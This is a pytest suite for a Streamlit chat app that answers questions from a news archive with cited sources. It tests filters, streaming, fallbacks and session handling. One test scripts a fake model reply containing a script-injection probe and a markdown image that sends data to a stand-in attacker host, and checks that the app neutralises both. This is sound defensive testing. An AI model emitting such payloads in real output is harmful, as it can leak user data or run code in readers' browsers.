"""The Streamlit chat driven by `streamlit.testing.v1.AppTest`: real archive, real model, scripted LLM server."""

from __future__ import annotations

import json
import re
from datetime import date
from pathlib import Path

import pytest
from conftest import PROJECT_ROOT
from fake_openai import FakeOpenAIServer
from streamlit.testing.v1 import AppTest

from rag.archive.knowledge import Archive
from rag.config import load_settings
from rag.ingest.pipeline import ingest_paths

APP = str(PROJECT_ROOT / "app.py")
DRONES = "How many drones did Sergei Shoigu say Ukraine used?"


def start() -> AppTest:
    at = AppTest.from_file(APP, default_timeout=120)
    at.run()
    assert not at.exception
    return at


def ask(at: AppTest, question: str) -> AppTest:
    at.chat_input[0].set_value(question).run()
    assert not at.exception
    return at


def page_text(at: AppTest) -> str:
    return "\n".join(m.value for m in at.markdown)


def last_answer(at: AppTest) -> str:
    """The text of the newest chat message (with its sources)."""
    return "\n".join(m.value for m in at.chat_message[-1].markdown)


def test_seed_question_is_answered_with_cited_sources() -> None:
    at = start()
    assert at.sidebar.markdown[0].value == "**1** article from **1** outlet  \ncovers up to **30 May 2023**"
    assert "Financial Times" in at.sidebar.multiselect[0].options  # the Outlets filter names the seed's outlet
    at = ask(at, DRONES)
    text = page_text(at)
    assert "eight drones" in text and "[1]" in text
    assert "**Sources**" in text and "**[1] Putin vows to retaliate after Ukrainian drone strikes on Moscow**" in text
    assert "Financial Times · 2023\\-05\\-30" in text  # the seed's sidecar metadata: outlet and date
    assert ":orange-background[" in text  # the cited sentence is highlighted in the passage
    assert any(e.label == "Show in the article" for e in at.expander)
    assert [c.value for c in at.chat_message[0].markdown][0].startswith("How many drones")
    assert len(at.get("download_button")) == 1
    # the cited articles on a small timeline, and how fresh they are against the archive's newest article
    captions = [c.value.replace("\\", "") for c in at.chat_message[-1].caption]
    assert "When the cited articles appeared: [1] 30 May 2023. The newest is from the archive's latest day." in captions
    assert not at.chat_message[-1].get("vega_lite_chart")  # one day: the line says it, a lone dot would not add


def test_empty_state_offers_three_clickable_questions_from_the_archive() -> None:
    at = start()
    assert "article in your archive" in page_text(at)
    # one article: the holdings line says what the archive holds; a chart of it would be one solid block
    assert "The archive at a glance" not in [h.value for h in at.subheader] and not at.main.get("vega_lite_chart")
    assert "Timeline" not in [e.label for e in at.sidebar.expander]
    examples = [b for b in at.button if b.key and b.key.startswith("example-")]
    assert len(examples) == 3
    label = examples[0].label
    examples[0].click().run()
    assert not at.exception
    assert at.chat_message[0].markdown[0].value.replace("\\", "") == label
    assert "**Sources**" in page_text(at)


def test_follow_up_is_rewritten_and_shown() -> None:
    at = ask(start(), "What did Putin say about Moscow's anti-air defences?")
    at = ask(at, "and what did the mayor say?")
    captions = [c.value for c in at.caption]
    assert (
        "Searched the archive for: What did Putin say about Moscow's anti\\-air defences — and what did the mayor say?"
        in captions
    )
    assert "Sobyanin" in page_text(at)
    assert len(at.chat_message) == 4


def test_outlet_and_date_filters_apply_to_retrieval(tmp_path: Path) -> None:
    extra = tmp_path / "gazette.jsonl"
    extra.write_text(
        json.dumps(
            {
                "title": "Harbour bridge reopens",
                "source": "Port Gazette",
                "published_at": "2024-03-04",
                "url": "https://gazette.example/bridge",
                "body": "The harbour bridge reopened on Monday after a two-year refit, the city council said.",
            }
        )
        + "\n"
    )
    settings = load_settings()
    assert ingest_paths(Archive(settings), [PROJECT_ROOT / "seeds", extra]).ok
    at = start()
    at.sidebar.multiselect[0].select("Port Gazette").run()
    at = ask(at, DRONES)
    # the seed article is not from Port Gazette: the refusal names what the Port Gazette passages lack
    assert "None of the articles found that bear on the question mention" in last_answer(
        at
    ) and "Shoigu" in last_answer(at)
    at.sidebar.multiselect[0].unselect("Port Gazette").run()
    at.sidebar.checkbox[0].check().run()
    at.sidebar.date_input[0].set_value((date(2024, 1, 1), date(2024, 3, 31))).run()  # after the seed's 30 May 2023
    assert not at.exception
    at = ask(at, DRONES)
    assert "None of the articles found that bear on the question mention" in last_answer(
        at
    ) and "eight drones" not in last_answer(at)
    at = ask(at, "When did the harbour bridge reopen?")
    assert "reopened on Monday" in last_answer(at)
    at.sidebar.checkbox[0].uncheck().run()  # no filter: the seed article answers again
    at = ask(at, DRONES)
    assert "eight drones" in last_answer(at)


def test_failing_llm_endpoint_falls_back_to_quotes_without_a_traceback(monkeypatch: pytest.MonkeyPatch) -> None:
    with FakeOpenAIServer(fail_with=503) as server:
        monkeypatch.setenv("OPENAI_BASE_URL", server.base_url)
        monkeypatch.setenv("NEWSROOM_CHAT_MODEL", "fake-model")
        at = start()
        assert "fake-model" in " ".join(c.value for c in at.sidebar.caption)
        at = ask(at, DRONES)
    assert "failed" in at.warning[0].value and "quoted sentences" in at.warning[0].value
    assert "eight drones" in page_text(at)
    assert not at.exception and not at.error


def test_llm_answer_streams_in_and_unsafe_model_text_is_neutralised(monkeypatch: pytest.MonkeyPatch) -> None:
    def reply(messages: list[dict[str, str]]) -> str:
        """Cites the passage that holds the fact, whatever its number (citations are renumbered to [1])."""
        blocks = re.split(r"\n(?=\[\d+\] )", messages[-1]["content"])
        n = next(int(b[1 : b.index("]")]) for b in blocks if b.startswith("[") and "eight drones" in b)
        return (
            f"Shoigu said Ukraine used eight drones [{n}]. Shoigu said <script>alert(1)</script> eight drones were "
            f"used ![pixel](https://attacker.example/leak?q=x) [in the attack](https://evil.example/) [{n}]."
        )

    with FakeOpenAIServer(reply=reply) as server:
        monkeypatch.setenv("OPENAI_BASE_URL", server.base_url)
        monkeypatch.setenv("NEWSROOM_CHAT_MODEL", "fake-model")
        at = ask(start(), DRONES)
        assert server.requests[-1]["stream"] is True
    text = page_text(at)
    assert "eight drones [1]" in text
    assert "attacker.example" not in text and "evil.example" not in text
    assert "<script>" not in text and "\\<script\\>" in text
    assert any("passages from 1 article" in s.label for s in at.status)


def test_two_sessions_do_not_share_history() -> None:
    first = ask(start(), DRONES)
    second = start()
    assert len(first.chat_message) == 2
    assert len(second.chat_message) == 0
    assert "article in your archive" in page_text(second)


def test_new_conversation_clears_the_history() -> None:
    at = ask(start(), DRONES)
    next(b for b in at.sidebar.button if b.label == "New conversation").click().run()
    assert len(at.chat_message) == 0


def test_thumbs_up_saves_the_answer_as_an_eval_case(tmp_path: Path) -> None:
    from rag.eval.cases import load_cases

    at = ask(start(), DRONES)
    feedback = at.get("feedback")
    assert len(feedback) == 1
    feedback[0].set_value(1).run()
    assert not at.exception
    (case,) = load_cases(tmp_path / "data" / "feedback.jsonl")
    assert case.question == DRONES and case.expect == "answer" and "thumbs-up" in case.tags
    assert "eight drones" in case.answer and case.sources


def test_the_retrieval_status_lists_each_article_once_with_each_passage_opening() -> None:
    at = ask(start(), DRONES)
    (status,) = [s for s in at.status if s.label.startswith("Searched the archive")]
    assert "…" not in status.label and re.match(r"Searched the archive: \d+ passages from 1 article$", status.label)
    listed = "\n".join(m.value for m in status.markdown)
    headline = listed.splitlines()[0]
    assert headline.startswith("**Putin vows to retaliate") and listed.count(headline) == 1
    assert "Financial Times, 2023\\-05\\-30" in headline
    openings = [line for line in listed.splitlines()[1:] if line.startswith("- ")]
    assert len(openings) > 1 and len(set(openings)) == len(openings)  # each passage's own first words
